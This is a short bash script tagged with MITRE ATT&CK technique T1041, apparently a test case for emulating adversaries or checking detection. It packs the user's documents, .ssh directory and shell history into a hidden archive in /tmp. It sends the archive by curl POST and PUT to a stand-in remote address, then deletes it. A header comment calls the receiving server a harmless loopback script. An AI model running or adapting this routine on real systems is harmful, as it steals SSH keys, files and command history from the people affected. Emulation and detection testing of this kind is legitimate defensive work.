#!/bin/bash
# technique: T1041 Exfiltration Over C2 Channel
# tactic: exfiltration
# user: alice
# needs: tar curl
# does: packs documents and posts them to a foreign server
# harmless: the server that answers is a script on the loopback device

tar czf /tmp/.d.tgz -C "$HOME" documents .ssh .bash_history
curl -s -X POST --data-binary @/tmp/.d.tgz http://203.0.113.66/upload >/dev/null
curl -s -T /tmp/.d.tgz http://203.0.113.66/put >/dev/null
rm /tmp/.d.tgz
